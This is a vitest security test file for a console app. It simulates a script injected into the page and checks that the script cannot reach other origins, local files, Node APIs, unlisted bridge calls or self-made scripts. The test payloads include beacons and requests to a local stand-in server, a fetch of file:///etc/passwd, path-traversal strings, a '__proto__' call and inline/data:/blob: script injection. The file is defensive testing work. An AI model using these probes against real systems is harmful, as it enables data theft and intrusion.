import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { createTestFolder } from '../support/console.ts'
import { consoleHosts, type OpenedConsole } from './hosts.ts'

/** Runs a script as one that got into the page would: in the page's own world, with what the page has. */
type Attack = (script: string) => Promise<unknown>

for (const host of consoleHosts) {
  describe.skipIf(host.missing !== null)(
    `a script that got into the page in ${host.name}${host.missing ? ` (${host.missing})` : ''}`,
    () => {
      it('reaches no other origin', async () => {
        const { attack, page } = await openAttacked()
        const elsewhere = await listenElsewhere()
        await attack(`(async () => {
        const to = '${elsewhere.url}'
        await fetch(to + '/fetch').catch(() => {})
        navigator.sendBeacon(to + '/beacon', 'x')
        try { new WebSocket(to.replace('http', 'ws') + '/socket') } catch {}
        try { new EventSource(to + '/events') } catch {}
        const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields))
        add('img', { src: to + '/img' })
        add('script', { src: to + '/script' })
        add('iframe', { src: to + '/frame' })
        add('object', { data: to + '/object' })
        add('link', { rel: 'stylesheet', href: to + '/style' })
        add('link', { rel: 'prefetch', href: to + '/prefetch' })
        add('video', { src: to + '/video' })
        const form = Object.assign(document.createElement('form'), { action: to + '/form', method: 'post' })
        document.body.append(form)
        form.submit()
        window.open(to + '/window')
      })()`)
        const address = page.url()
        await page.waitForTimeout(1_000)
        expect(elsewhere.asked).toEqual([])
        expect(page.url()).toBe(address)
      })

      it('reaches no file and nothing of Node', async () => {
        const { attack } = await openAttacked()
        expect(await attack(`fetch('file:///etc/passwd').then(() => 'read', () => 'refused')`)).toBe('refused')
        expect(
          await attack(`['require', 'process', 'module', 'Buffer', 'electron'].filter((name) => name in window)`)
        ).toEqual([])
        for (const path of [
          '/../../package.json',
          '/..%2f..%2fpackage.json',
          '/%2e%2e/main/cli.js',
          '/index.html/../../../etc/passwd'
        ]) {
          const script = `fetch('${path}').then((answer) => answer.text(), () => '')`
          expect(await attack(script)).not.toMatch(/better-sqlite3|root:/)
        }
      })

      it('makes no unlisted call, and a wrong one is refused by type while the program goes on', async () => {
        const { attack } = await openAttacked()
        const answers = (await attack(`(async () => {
        const bridge = window.provisionBridge
        const call = bridge
          ? async (noun, verb, input) => {
              const isListed = Object.hasOwn(bridge, noun) && Object.hasOwn(bridge[noun], verb)
              return isListed ? bridge[noun][verb](input) : { ok: false, error: { code: 'unknown-call' } }
            }
          : async (noun, verb, input) => {
              const headers = { 'content-type': 'application/json', 'x-provision-console': '1' }
              const answer = await fetch('/api/call/' + noun + ':' + verb, { method: 'POST', headers, body: JSON.stringify(input) ?? 'null' })
              return answer.json()
            }
        const outcomes = []
        for (const [noun, verb, input] of [
          ['files', 'read', { path: '/etc/passwd' }],
          ['__proto__', 'constructor', {}],
          ['users', 'list', { limit: 'many' }],
          ['users', 'list', null],
          ['users', 'import', { content: 'no bytes' }],
          ['settings', 'set', { changes: { 'server.host': 'x y' } }],
          ['codes', 'issue', { selection: { usernames: 7 } }]
        ]) outcomes.push(await call(noun, verb, input).then((result) => result.error?.code ?? 'let through', () => 'refused'))
        outcomes.push((await call('users', 'list', {})).ok)
        return outcomes
      })()`)) as unknown[]
        expect(answers.at(-1)).toBe(true)
        expect(answers.slice(0, -1)).toEqual([
          'unknown-call',
          'unknown-call',
          'invalid-input',
          'invalid-input',
          'invalid-input',
          'setting-invalid',
          'invalid-input'
        ])
      })

      it('cannot run a script of its own making', async () => {
        const { attack } = await openAttacked()
        expect(
          await attack(`(async () => {
          document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ranInline = true' }))
          document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ranData=true' }))
          document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.ranBlob = true'])) }))
          await new Promise((resolve) => setTimeout(resolve, 300))
          return ['ranInline', 'ranData', 'ranBlob'].filter((name) => name in window)
        })()`)
        ).toEqual([])
      })

      async function openAttacked(): Promise<OpenedConsole & { attack: Attack }> {
        const opened = await host.open(createTestFolder())
        onTestFinished(() => opened.close())
        await opened.page.getByRole('navigation').waitFor()
        return { ...opened, attack: (script) => opened.page.evaluate(script) }
      }
    }
  )
}

async function listenElsewhere(): Promise<{ url: string; asked: string[] }> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
}
